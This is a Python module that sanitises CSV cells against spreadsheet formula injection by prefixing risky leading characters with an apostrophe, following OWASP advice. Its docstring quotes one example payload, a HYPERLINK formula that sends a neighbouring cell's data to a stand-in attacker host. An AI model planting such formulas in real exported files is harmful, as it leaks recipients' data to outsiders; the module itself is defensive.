"""CSV cells that leave the company are data, never formulas.

A spreadsheet program runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some,
a tab or carriage return) as a formula: ``=HYPERLINK("http://evil/?"&A2)`` in a name field would
send the list's neighbours to a stranger. OWASP's advice, followed here: such a cell gets a
leading apostrophe, which spreadsheets show as text and do not evaluate.
"""

from __future__ import annotations

from collections.abc import Iterable

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: str) -> str:
    return "'" + value if value.startswith(_FORMULA_STARTS) else value


def safe_row(values: Iterable[object]) -> list[str]:
    return [spreadsheet_safe(v if isinstance(v, str) else str(v)) for v in values]
